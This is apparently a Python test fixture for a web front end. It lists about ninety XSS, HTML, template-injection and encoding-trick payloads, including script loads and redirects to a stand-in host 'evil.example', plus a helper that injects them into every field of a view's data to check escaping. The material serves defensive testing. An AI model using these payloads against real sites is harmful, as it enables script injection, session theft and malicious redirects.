"""Texts that would run, leave the page or break it, were a text ever taken for markup, script, style or an address."""

RUN = "window.__pwned=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</ScRiPt ><sCrIpT>{RUN}</sCrIpT>",
    f"<!--<script>{RUN}</script>-->",
    f"--><script>{RUN}</script><!--",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
    "<img src=http://evil.example/a.png>",
    f"<image href=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/>",
    f'<svg><foreignObject><iframe srcdoc="<script>parent.{RUN}</script>"></foreignObject></svg>',
    f"<math><mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></mtext></math>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<iframe src=//evil.example/></iframe>",
    f'<object data="javascript:{RUN}"></object>',
    "<embed src=//evil.example/x.swf>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f'<form action="javascript:{RUN}"><input type=submit autofocus></form>',
    f'<button formaction="javascript:{RUN}">x</button>',
    f'<a href="javascript:{RUN}">x</a>',
    f'<base href="javascript:{RUN}//">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "<style>*{background:url(//evil.example/x)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(//evil.example/x)">',
    "<dialog open>x</dialog>",
    f"<x onclick={RUN} tabindex=1 id=x autofocus onfocus={RUN}>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "http://evil.example/",
    f'" onmouseover="{RUN}',
    f"' onfocus='{RUN}' autofocus='",
    f'" autofocus onfocus="{RUN}" x="',
    f'\\"}};{RUN};//',
    f'");{RUN};("',
    f"';{RUN};'",
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    f"{{{{ {RUN} }}}}",
    "{{ 7 * 7 }}{% raw %}{{ cycler.__init__.__globals__ }}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ewindow.__pwned=1\\x3c/script\\x3e",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
    f"\u2028{RUN}\u2029{RUN}",
    f"\r\n\r\n<script>{RUN}</script>",
    f"\x00<script>{RUN}</script>",
    f"\x1b]8;;http://evil.example/\x07<script\x0c>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"\u202e>tpircs/<{RUN}>tpircs<",
    f"＜script＞{RUN}＜/script＞",
    "\ud800<script>window.__pwned=1</script>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "#actor=<img src=x onerror=window.__pwned=1>",
    "]]>" + "<b>" * 50,
    "a" * 3000,
    "\u0301" * 200,
    "",
    " ",
)

# Each payload whole, three or so in one text, so that each goes through every field and the pages stay few.
BUNDLES = tuple(" ".join(PAYLOADS[i::30]) for i in range(30))


def spoilt(payload, text):
    """Return the plain data of a view with a text put into every field that comes from a case.

    Ids stay apart from each other: the text stands before them. Words with a meaning for the page (a layout, a tier of
    a list) stay, so that the page draws what it would.
    """
    ids = {a["id"] for a in payload["actors"]} | {t["id"] for t in payload["ties"]} | {"paper", "system"}
    slugs = set(payload["actorKinds"]) | set(payload["tieKinds"]) | set(payload["channels"])
    slugs |= {f["id"] for f in payload["families"]}
    kept = {"lang", "layout", "layouts", "pos", "slot", "dates"}

    def put(value, key=""):
        if key in kept:
            return value
        if isinstance(value, dict):
            return {(text + k if k in ids | slugs else k): put(v, k) for k, v in value.items()}
        if isinstance(value, list):
            return [put(v, key) for v in value]
        return text + value if isinstance(value, str) else value

    found = put(payload)
    return {**found, "words": {f"strategy_{text}international": text, "search": text, "legend": text}}
